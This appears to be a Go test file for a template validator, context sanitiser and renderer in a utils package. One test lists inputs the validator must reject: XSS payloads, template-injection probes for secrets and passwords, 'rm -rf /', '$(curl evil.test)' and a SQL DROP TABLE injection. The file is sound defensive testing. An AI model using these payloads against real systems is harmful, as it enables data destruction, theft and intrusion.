package utils

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func TestValidateTemplateContentAcceptsSafeTemplates(t *testing.T) {
	templates := []string{
		"Hello {{ name }}",
		"{% if invited %}Welcome {{ name|title }}{% else %}Hello{% endif %}",
		"{% for item in items %}{{ item }}{% endfor %}",
		"{{ amount|floatformat:2 }} credits remaining",
		"{% comment %}internal note{% endcomment %}Body",
	}
	for _, tmpl := range templates {
		assert.NoError(t, ValidateTemplateContent(tmpl), tmpl)
	}
}

func TestValidateTemplateContentRejectsDangerousConstructs(t *testing.T) {
	cases := []struct {
		name    string
		content string
	}{
		{"script tag", `<script>alert(1)</script>`},
		{"eval call", `{{ eval("code") }}`},
		{"dunder access", `{{ obj.__class__ }}`},
		{"orm escape", `{{ user.objects.all }}`},
		{"password access", `{{ user.password }}`},
		{"settings access", `{{ settings.SECRET_KEY }}`},
		{"js protocol", `<a href="javascript:alert(1)">x</a>`},
		{"event handler", `<div onclick=steal()>x</div>`},
		{"iframe", `<iframe src="https://evil.test"></iframe>`},
		{"css expression", `<span style="width:expression(alert(1))">x</span>`},
		{"css import", `@import url(https://evil.test/x.css);`},
		{"shell backticks", "run `rm -rf /` now"},
		{"command substitution", `$(curl evil.test)`},
		{"sql drop", `'; DROP TABLE users; --`},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			err := ValidateTemplateContent(tc.content)
			require.Error(t, err)
			var vErr *ValidationError
			assert.ErrorAs(t, err, &vErr)
		})
	}
}

func TestValidateTemplateContentRejectsUnknownTags(t *testing.T) {
	err := ValidateTemplateContent(`{% include "other.html" %}`)
	require.Error(t, err)
	assert.Contains(t, err.Error(), "include")

	err = ValidateTemplateContent(`{% load static %}`)
	require.Error(t, err)
	assert.Contains(t, err.Error(), "load")
}

func TestValidateTemplateContentRejectsUnknownFilters(t *testing.T) {
	err := ValidateTemplateContent(`{{ name|urlize }}`)
	require.Error(t, err)
	assert.Contains(t, err.Error(), "urlize")
}

func TestValidateTemplateContentRejectsDeepNesting(t *testing.T) {
	var b strings.Builder
	for i := 0; i < 11; i++ {
		b.WriteString("{% if ok %}")
	}
	b.WriteString("x")
	for i := 0; i < 11; i++ {
		b.WriteString("{% endif %}")
	}
	err := ValidateTemplateContent(b.String())
	require.Error(t, err)
	assert.Contains(t, err.Error(), "nesting")
}

func TestValidateTemplateContentRejectsOversizedTemplates(t *testing.T) {
	err := ValidateTemplateContent(strings.Repeat("a", maxTemplateLength+1))
	require.Error(t, err)
	assert.Contains(t, err.Error(), "maximum length")
}

func TestValidateTemplateContentRejectsBrokenSyntax(t *testing.T) {
	err := ValidateTemplateContent(`{% if open %}never closed`)
	require.Error(t, err)
}

func TestSanitizeContextEscapesStrings(t *testing.T) {
	out, err := SanitizeContext(map[string]interface{}{
		"name": `<b>Jo & "Sam"</b>`,
	})
	require.NoError(t, err)
	assert.Equal(t, "&lt;b&gt;Jo &amp; &#34;Sam&#34;&lt;/b&gt;", out["name"])
}

func TestSanitizeContextIsIdempotent(t *testing.T) {
	ctx := map[string]interface{}{"name": `<b>Jo & Sam</b>`}

	once, err := SanitizeContext(ctx)
	require.NoError(t, err)
	twice, err := SanitizeContext(once)
	require.NoError(t, err)
	assert.Equal(t, once, twice)
}

func TestSanitizeContextRecursesIntoCollections(t *testing.T) {
	out, err := SanitizeContext(map[string]interface{}{
		"items": []interface{}{"<i>one</i>", 2},
		"nested": map[string]interface{}{
			"inner": "<u>x</u>",
		},
	})
	require.NoError(t, err)

	items := out["items"].([]interface{})
	assert.Equal(t, "&lt;i&gt;one&lt;/i&gt;", items[0])
	assert.Equal(t, 2, items[1])

	nested := out["nested"].(map[string]interface{})
	assert.Equal(t, "&lt;u&gt;x&lt;/u&gt;", nested["inner"])
}

func TestSanitizeContextRejectsBadKeys(t *testing.T) {
	for _, key := range []string{"__proto__", "eval", "bad-key", "9start", ""} {
		_, err := SanitizeContext(map[string]interface{}{key: "v"})
		assert.Error(t, err, key)
	}
}

func TestValidateContextVariablesRejectsCallables(t *testing.T) {
	err := ValidateContextVariables(map[string]interface{}{
		"cb": func() {},
	})
	require.Error(t, err)
	assert.Contains(t, err.Error(), "callable")

	err = ValidateContextVariables(map[string]interface{}{
		"nested": map[string]interface{}{"fn": func() string { return "" }},
	})
	require.Error(t, err)
}

func TestRenderTemplateSubstitutesVariables(t *testing.T) {
	out, err := RenderTemplate("Hello {{ name }}, {{ count }} new messages", map[string]interface{}{
		"name":  "Ada",
		"count": 3,
	}, true)
	require.NoError(t, err)
	assert.Equal(t, "Hello Ada, 3 new messages", out)
}

func TestRenderTemplateEscapesInjectedMarkupOnce(t *testing.T) {
	out, err := RenderTemplate("Hi {{ name }}", map[string]interface{}{
		"name": "<img src=x>",
	}, true)
	require.NoError(t, err)
	assert.Equal(t, "Hi &lt;img src=x&gt;", out)
	assert.NotContains(t, out, "&amp;lt;")
}

func TestRenderTemplateEvaluatesConditions(t *testing.T) {
	tmpl := "{% if accepted %}Welcome aboard{% else %}Reminder{% endif %}"

	out, err := RenderTemplate(tmpl, map[string]interface{}{"accepted": true}, true)
	require.NoError(t, err)
	assert.Equal(t, "Welcome aboard", out)

	out, err = RenderTemplate(tmpl, map[string]interface{}{"accepted": false}, true)
	require.NoError(t, err)
	assert.Equal(t, "Reminder", out)
}

func TestRenderTemplateAppliesDefaultFilter(t *testing.T) {
	out, err := RenderTemplate(`Hello {{ missing|default:"friend" }}`, map[string]interface{}{}, true)
	require.NoError(t, err)
	assert.Equal(t, "Hello friend", out)
}

func TestRenderTemplateRejectsUnsafeContent(t *testing.T) {
	_, err := RenderTemplate(`<script>x</script>{{ name }}`, map[string]interface{}{"name": "a"}, true)
	require.Error(t, err)
	var vErr *ValidationError
	assert.ErrorAs(t, err, &vErr)
}
